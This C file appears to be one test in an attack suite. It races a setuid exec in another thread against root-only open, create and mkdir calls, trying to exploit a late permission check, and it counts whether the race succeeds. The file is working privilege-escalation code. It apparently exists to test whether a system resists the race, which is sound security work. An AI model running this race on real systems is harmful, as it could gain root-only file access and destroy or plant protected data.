// SPDX-License-Identifier: Apache-2.0
// attack_takeover SECONDS ENOUGH CALL: asks for what only root may do, while another thread executes a setuid program,
// which takes over the caller's number: whoever looks at the caller's rights too late finds those of the program.
//
// CALL: open empties a file of root's, create makes one, mkdir a folder beside it. The setuid program is this one, which
// then says by its status whether it is root; where it was, the attempt got what is allowed.
#include "attack.h"

#define OWNED "/private/log"
#define MADE "/private/made"
#define RAISED "/public/raised"
enum { IS_ROOT = 7 };

static int empty(void) { return open(OWNED, O_WRONLY | O_TRUNC | O_CLOEXEC); }
static int create(void) { return open(MADE, O_WRONLY | O_CREAT | O_CLOEXEC, 0600); }
static int make(void) { return mkdir(MADE, 0700); }
static int is_owned_empty(void) { return is_empty(OWNED); }
static int is_made(void) { return access(MADE, F_OK) == 0; }

static const struct {
  const char *name;
  int (*call)(void);
  int (*is_done)(void);
} CALLS[] = {{"open", empty, is_owned_empty}, {"create", create, is_made}, {"mkdir", make, is_made}};

static atomic_int is_started;

static void *execute(void *delay) {
  is_started = 1;
  for (double end = now() + (intptr_t)delay / 1e6; now() < end;) {}
  execv(RAISED, (char *[]){"raised", NULL});
  return NULL;
}

// The caller is this process' first thread, whose number the program gets.
static void call_until_taken_over(int (*call)(void), long attempt) {
  start_thread(execute, (void *)(intptr_t)(attempt % 50 * 10));
  while (!is_started) {}
  for (;;) call();
}

int main(int argc, char **argv) {
  if (argc == 1) return geteuid() == 0 ? IS_ROOT : 1;
  begin(argc, argv);
  const typeof(*CALLS) *chosen_call = CHOSEN(CALLS, word(argc, argv, 0));
  require(chosen_call->call() < 0 && errno == EACCES, "be refused");
  for (long attempt = 0; !is_over(); attempt++) {
    pid_t child = fork();
    if (child == 0) call_until_taken_over(chosen_call->call, attempt);
    // The number stays taken until it is waited for.
    usleep(3000);
    int status = 0;
    waitpid(child, &status, 0);
    int is_done = chosen_call->is_done();
    count(is_done ? SUCCESS : WIFEXITED(status) && WEXITSTATUS(status) == IS_ROOT ? HARMLESS : NOTHING);
    if (is_done) break;
  }
  return finish();
}
